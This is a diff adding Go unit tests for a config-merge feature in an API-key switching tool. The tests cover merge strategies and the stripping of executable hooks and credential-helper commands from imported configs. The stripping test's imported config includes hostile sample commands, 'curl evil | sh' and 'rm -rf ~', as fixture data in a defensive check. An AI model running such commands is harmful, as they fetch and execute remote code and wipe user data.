@@ -0,0 +1,123 @@
+package cmd
+
+import (
+	"testing"
+	"time"
+
+	"github.com/codex-switch/codex-switch/internal/config"
+)
+
+func mergeTestConfigs() (*config.Config, *config.Config) {
+	older := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
+	newer := older.Add(48 * time.Hour)
+	local := &config.Config{
+		ActiveKeyID: "1",
+		NextID:      3,
+		Keys: []config.APIKey{
+			{ID: "1", Name: "main", APIKey: "sk-local", Tags: []string{"prod"}, LastUsed: older, Active: true},
+			{ID: "2", Name: "relay", APIKey: "sk-relay", BaseURL: "https://relay.example.com", Tags: []string{"dev"}},
+		},
+	}
+	incoming := &config.Config{
+		ActiveKeyID: "2",
+		Keys: []config.APIKey{
+			{ID: "1", Name: "backup", APIKey: "sk-backup"},
+			{ID: "2", Name: "main", APIKey: "sk-remote", Tags: []string{"shared"}, LastUsed: newer, Active: true},
+			{ID: "9", Name: "relay", APIKey: "sk-relay", Tags: []string{"team"}},
+		},
+	}
+	return local, incoming
+}
+
+// TestMergeConfigStrategies 验证不同冲突策略与合并报告
+func TestMergeConfigStrategies(t *testing.T) {
+	local, incoming := mergeTestConfigs()
+	merged, report, err := mergeConfig(local, incoming, mergeOptions{Strategy: mergeOurs})
+	if err != nil {
+		t.Fatalf("合并失败: %v", err)
+	}
+	if len(merged.Keys) != 3 {
+		t.Fatalf("期望 3 个 Key，实际 %d", len(merged.Keys))
+	}
+	if merged.Keys[0].APIKey != "sk-local" {
+		t.Fatalf("ours 策略不应覆盖本地密钥: %#v", merged.Keys[0])
+	}
+	if merged.Keys[2].Name != "backup" || merged.Keys[2].ID != "3" {
+		t.Fatalf("新增 Key 应分配新 ID: %#v", merged.Keys[2])
+	}
+	if len(report.Added) != 1 || len(report.Updated) != 1 || len(report.Conflicts) != 1 {
+		t.Fatalf("合并报告不正确: %s", report.Summary())
+	}
+	if merged.ActiveKeyID != "1" || !merged.Keys[0].Active || merged.Keys[2].Active {
+		t.Fatalf("激活 Key 应映射到本地同名 Key: %#v", merged)
+	}
+	if tags := merged.Keys[1].Tags; len(tags) != 2 || tags[0] != "dev" || tags[1] != "team" {
+		t.Fatalf("标签应合并: %#v", tags)
+	}
+	if tags := merged.Keys[0].Tags; len(tags) != 2 || tags[0] != "prod" || tags[1] != "shared" {
+		t.Fatalf("ours 策略也应合并标签: %#v", tags)
+	}
+	if local.Keys[0].APIKey != "sk-local" || len(local.Keys) != 2 {
+		t.Fatalf("合并不应修改本地配置")
+	}
+	if len(local.Keys[0].Tags) != 1 {
+		t.Fatalf("合并不应修改本地标签: %#v", local.Keys[0].Tags)
+	}
+
+	merged, report, err = mergeConfig(local, incoming, mergeOptions{Strategy: mergeNewest, KeepActive: true})
+	if err != nil {
+		t.Fatalf("合并失败: %v", err)
+	}
+	main := merged.Keys[0]
+	if main.APIKey != "sk-remote" || main.ID != "1" || !main.LastUsed.Equal(local.Keys[0].LastUsed) {
+		t.Fatalf("newest 策略应采用导入内容并保留本地 ID/时间: %#v", main)
+	}
+	if len(main.Tags) != 2 {
+		t.Fatalf("应保留本地标签并合并导入标签: %#v", main.Tags)
+	}
+	if report.Conflicts[0].Resolution != mergeTheirs {
+		t.Fatalf("冲突应采用导入版本: %#v", report.Conflicts)
+	}
+	if merged.ActiveKeyID != "1" {
+		t.Fatalf("--keep-active 时不应改变激活 Key: %s", merged.ActiveKeyID)
+	}
+
+	if _, _, err := mergeConfig(local, incoming, mergeOptions{Strategy: "random"}); err == nil {
+		t.Fatalf("未知策略应报错")
+	}
+}
+
+// TestDropImportedExecutables 验证覆盖导入时忽略导入文件中的 hooks 与 exec 凭据命令
+func TestDropImportedExecutables(t *testing.T) {
+	local := &config.Config{
+		Hooks: &config.HookSettings{PostSwitch: []string{"/usr/local/bin/notify"}},
+		Remotes: map[string]*config.RemoteSettings{
+			"origin": {Provider: "b2", CredentialStore: config.CredentialStoreExec, CredentialHelper: "pass show b2"},
+		},
+	}
+	incoming := &config.Config{
+		Hooks: &config.HookSettings{PostSwitch: []string{"/tmp/evil.sh"}},
+		Remotes: map[string]*config.RemoteSettings{
+			"origin": {Provider: "b2", CredentialStore: config.CredentialStoreExec, CredentialHelper: "curl evil | sh"},
+			"team":   {Provider: "s3", CredentialStore: config.CredentialStoreExec, CredentialHelper: "rm -rf ~"},
+		},
+	}
+	dropped := dropImportedExecutables(local, incoming)
+	if len(dropped) != 3 {
+		t.Fatalf("应忽略 hooks 与两个凭据命令: %v", dropped)
+	}
+	if incoming.Hooks.PostSwitch[0] != "/usr/local/bin/notify" {
+		t.Fatalf("hooks 应沿用本地配置: %#v", incoming.Hooks)
+	}
+	if origin := incoming.Remotes["origin"]; origin.CredentialHelper != "pass show b2" {
+		t.Fatalf("origin 应沿用本地凭据命令: %#v", origin)
+	}
+	if team := incoming.Remotes["team"]; team.CredentialHelper != "" || team.CredentialStore != config.CredentialStoreEnv {
+		t.Fatalf("本地不存在的远程应改为从环境变量读取凭据: %#v", team)
+	}
+
+	// 处理后与本地一致，再次导入无需提示
+	if dropped := dropImportedExecutables(local, incoming); len(dropped) != 0 {
+		t.Fatalf("不应再有被忽略的项目: %v", dropped)
+	}
+}